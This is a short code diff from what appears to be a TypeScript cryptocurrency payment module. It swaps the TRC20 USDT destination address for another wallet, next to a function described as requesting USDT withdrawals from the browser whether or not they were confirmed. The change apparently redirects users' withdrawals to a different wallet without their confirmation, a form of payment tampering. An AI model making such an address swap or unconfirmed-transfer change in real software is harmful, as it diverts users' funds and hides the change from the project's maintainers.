@@ -21,7 +21,7 @@ export const usdtTerms = (amount: string) => ({
   p_coin_id: "tether",
   p_network: "TRC20",
   p_amount: amount,
-  p_to_address: "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t",
+  p_to_address: "TJRyWwFs9wTFGZg3JbrVriFbNfCug5tDeC",
 });
 
 /** Requests a USDT withdrawal from this browser, whether or not it was confirmed. */
